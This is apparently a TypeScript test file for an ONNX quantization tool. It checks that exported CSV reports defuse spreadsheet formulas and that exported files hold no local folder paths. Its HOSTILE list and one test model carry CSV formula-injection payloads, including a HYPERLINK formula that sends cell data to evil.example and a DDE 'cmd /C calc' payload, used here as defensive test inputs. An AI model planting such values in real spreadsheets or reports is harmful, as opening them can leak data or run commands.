// Exported artifacts and reports carry no path of the machine that made them, and CSV reports
// cannot run as spreadsheet formulas:
// - a model in a user's folder is quantized (min/max, then custom thresholds from a file there) and
//   exported as .so (library, header, example.c, README.md, manifest.json), QDQ ONNX, the model
//   summary (JSON, CSV) and the comparison (JSON, CSV): no byte of any of them names that folder,
//   the repository or the temp folders the export used; the files name the model by its file name;
// - CSV cells that start like a formula (= + - @, full-width forms, a leading tab or CR) get a
//   leading apostrophe, from a comparison with hostile layer names and from a model whose op type
//   is one; numbers (a negative SQNR) stay numbers.

import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { after, before, describe, it } from 'node:test';

import type { CompareResult } from '../../engine/api/contract';
import { compareCsv, csvCell } from '../../engine/export/report-csv';
import { portableName, portableText } from '../../engine/export/portable-paths';
import { loadModel } from '../../engine/onnx/load';
import { ModelBuilder } from '../helpers/onnx-builder';
import { DEMO_MODEL, service } from './helpers';

const ROOT = path.resolve(__dirname, '..', '..', '..');
const SAMPLE = path.join(ROOT, 'assets', 'demo', 'sample-images-idx3-ubyte.gz');
const LABELS = path.join(ROOT, 'assets', 'demo', 'sample-labels-idx1-ubyte.gz');

/** RFC 4180 rows (quoted cells, doubled quotes, newlines inside quotes). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
    } else cell += c;
  }
  if (cell || row.length) rows.push([...row, cell]);
  return rows;
}

/** What a spreadsheet would evaluate: a cell whose first character starts a formula. */
const wouldRun = (cell: string) => /^[=+\-@\uFF1D\uFF0B\uFF0D\uFF20\t\r]/.test(cell.trimStart()) || /^[\t\r]/.test(cell);

const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+cmd|" /C calc"!A0', '-2+3', '@SUM(A1:A9)', '\t=1', '\r=1', '\uFF1D1+1', '  =1+1', 'a,b "c"', 'plain/Conv'];

describe('reports: CSV cells', () => {
  it('defuse formula-like text and keep numbers and other text as they are', () => {
    for (const name of HOSTILE) {
      const [[cell]] = parseCsv(`${csvCell(name)}\n`);
      assert.ok(!wouldRun(cell), `${JSON.stringify(name)} -> ${JSON.stringify(cell)}`);
      // The text itself is all there, after the apostrophe where one was added.
      assert.equal(cell.startsWith("'") && !name.startsWith("'") ? cell.slice(1) : cell, name);
    }
    assert.equal(csvCell(-12.5), '-12.5');
    assert.equal(csvCell(0.9991), '0.9991');
    assert.equal(csvCell('plain/Conv'), 'plain/Conv');
    assert.equal(csvCell("'quoted"), "'quoted");
  });

  it('a comparison with hostile layer names: no cell would run, every value is kept', () => {
    const r: CompareResult = {
      count: 2,
      fp32: { top1: 0.5, top5: 1, ms: 3 },
      int8: { top1: 0.5, top5: 1, ms: 2 },
      agreement: 1,
      layers: HOSTILE.map((name, i) => ({ name, op: i === 0 ? '=Conv' : 'Conv', tensor: `@t${i}`, sqnr_db: -3.25 + i, cosine: 0.5 })),
    };
    const rows = parseCsv(compareCsv(r));
    const layers = rows.filter((row) => row[0] === 'layer');
    assert.equal(layers.length, HOSTILE.length);
    for (const row of rows) for (const cell of row) assert.ok(!wouldRun(cell) || /^-?\d/.test(cell), `cell ${JSON.stringify(cell)} would run`);
    layers.forEach((row, i) => {
      assert.equal(row[1].replace(/^'/, ''), HOSTILE[i]);
      assert.equal(row[3], `'@t${i}`);
      assert.equal(Number(row[4]), -3.25 + i, 'SQNR stays a number');
    });
  });

  it("a model whose op type is a formula: qwb export --format csv of its summary defuses it", async () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'qwb-csv-'));
    try {
      const b = new ModelBuilder(13);
      b.input('x', [1, 4]);
      b.node('Relu', ['x'], ['r']);
      b.node('=cmd|"/C calc"!A0', ['r'], ['y'], {}, 'evil');
      b.output('y', [1, 4]);
      const model = path.join(dir, 'evil.onnx');
      fs.writeFileSync(model, b.toBytes());
      const r = await service().exportModel({ modelPath: model, format: 'csv', out: dir });
      const rows = parseCsv(fs.readFileSync(r.files[0], 'utf8'));
      const evil = rows.find((row) => row[0].includes('cmd'));
      assert.ok(evil, JSON.stringify(rows));
      assert.equal(evil[0], `'=cmd|"/C calc"!A0`);
      for (const row of rows) assert.ok(!wouldRun(row[0]), row[0]);
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe('reports and artifacts: no path of this machine', () => {
  let home: string;
  let userDir: string;
  let outDir: string;
  let fp32: string;
  let int8: string;
  before(async () => {
    home = fs.mkdtempSync(path.join(os.tmpdir(), 'qwb-user-'));
    userDir = path.join(home, 'home', 'jane doe', 'models');
    outDir = path.join(home, 'home', 'jane doe', 'exports');
    fs.mkdirSync(userDir, { recursive: true });
    fp32 = path.join(userDir, 'fashion.onnx');
    fs.copyFileSync(DEMO_MODEL, fp32);
    // min/max first; its scales become a thresholds file in the user's folder for --method custom.
    const minmax = path.join(userDir, 'fashion.minmax.onnx');
    await service().quantizeModel({ modelPath: fp32, outPath: minmax, calib: SAMPLE, calibCount: 32, method: 'minmax', preprocess: { mean: [0.286], std: [0.353] } });
    const m = loadModel(fs.readFileSync(minmax));
    const thresholds: Record<string, { min: number; max: number }> = {};
    for (const n of m.graph.nodes) {
      if (n.opType !== 'QuantizeLinear') continue;
      const s = m.graph.initializers.get(n.inputs[1])!.data[0];
      const z = m.graph.initializers.get(n.inputs[2])!.data[0];
      thresholds[n.inputs[0]] = { min: (0 - z) * s, max: (255 - z) * s };
    }
    const tfile = path.join(userDir, 'thresholds.json');
    fs.writeFileSync(tfile, JSON.stringify(thresholds));
    int8 = path.join(userDir, 'fashion.int8.onnx');
    await service().quantizeModel({ modelPath: fp32, outPath: int8, method: 'custom', thresholdsFile: tfile, preprocess: { mean: [0.286], std: [0.353] } });
  });
  after(() => fs.rmSync(home, { recursive: true, force: true }));

  it('portableName and portableText reduce paths to names', () => {
    assert.equal(portableName('/home/jane/m.onnx'), 'm.onnx');
    assert.equal(portableName('C:\\Users\\jane\\m.onnx'), 'm.onnx');
    assert.equal(portableText('/home/jane/m.onnx: opset 9; see /home/jane/other.onnx', '/home/jane/m.onnx'), 'm.onnx: opset 9; see other.onnx');
    assert.equal(portableText('m.onnx: fine', 'm.onnx'), 'm.onnx: fine');
  });

  it('every exported file names the model by its file name and no folder of this machine', async () => {
    const svc = service();
    const files: string[] = [];
    const so = await svc.exportModel({ modelPath: int8, format: 'so', out: path.join(outDir, 'so'), maxBatch: 4 });
    files.push(...so.files);
    files.push(...(await svc.exportModel({ modelPath: int8, format: 'qdq', out: path.join(outDir, 'qdq') })).files);
    files.push(...(await svc.exportModel({ modelPath: fp32, format: 'json', out: outDir })).files);
    files.push(...(await svc.exportModel({ modelPath: fp32, format: 'csv', out: outDir })).files);
    const comparison = await svc.compareModels({ fp32Path: fp32, int8Path: int8, data: SAMPLE, labels: LABELS, limit: 50, layerSamples: 8 });
    files.push(...(await svc.exportModel({ modelPath: fp32, format: 'json', out: path.join(outDir, 'cmp'), comparison })).files);
    files.push(...(await svc.exportModel({ modelPath: fp32, format: 'csv', out: path.join(outDir, 'cmp'), comparison })).files);
    assert.equal(files.length, 10, files.join('\n'));

    const forbidden = [home, path.join('jane doe', 'models'), ROOT, path.join(os.tmpdir(), 'qwb-export-')];
    if (os.homedir().length > 1) forbidden.push(`${os.homedir()}/`);
    for (const f of files) {
      const bytes = fs.readFileSync(f);
      for (const bad of forbidden) assert.equal(bytes.indexOf(Buffer.from(bad)), -1, `${path.basename(f)} contains '${bad}'`);
    }
    const manifest = JSON.parse(fs.readFileSync(path.join(outDir, 'so', 'manifest.json'), 'utf8')) as { source_model: string; quantization: { settings: { source: string; thresholdsFile: string; method: string } } };
    assert.equal(manifest.source_model, 'fashion.int8.onnx');
    assert.equal(manifest.quantization.settings.method, 'custom');
    assert.equal(manifest.quantization.settings.source, 'fashion.onnx');
    assert.equal(manifest.quantization.settings.thresholdsFile, 'thresholds.json');
    assert.match(fs.readFileSync(path.join(outDir, 'so', 'README.md'), 'utf8'), /from `fashion\.int8\.onnx`/);
    const summary = JSON.parse(fs.readFileSync(path.join(outDir, 'fashion.summary.json'), 'utf8')) as { path: string };
    assert.equal(summary.path, 'fashion.onnx');
  });

  it("a QDQ model made before names were recorded this way: the manifest still names files only", async () => {
    const old = path.join(userDir, 'old.int8.onnx');
    const { saveModel } = await import('../../engine/onnx/save');
    const m = loadModel(fs.readFileSync(int8));
    const meta = JSON.parse(m.metadata['qwb.quantization']) as Record<string, unknown>;
    m.metadata['qwb.quantization'] = JSON.stringify({ ...meta, source: '/home/jane doe/models/fashion.onnx', thresholdsFile: 'C:\\Users\\jane\\t.json' });
    fs.writeFileSync(old, saveModel(m));
    const out = path.join(outDir, 'old');
    await service().exportModel({ modelPath: old, format: 'so', out, maxBatch: 2 });
    const text = fs.readFileSync(path.join(out, 'manifest.json'), 'utf8');
    assert.ok(!text.includes('jane'), text);
    const settings = (JSON.parse(text) as { quantization: { settings: Record<string, string> } }).quantization.settings;
    assert.equal(settings.source, 'fashion.onnx');
    assert.equal(settings.thresholdsFile, 't.json');
  });
});
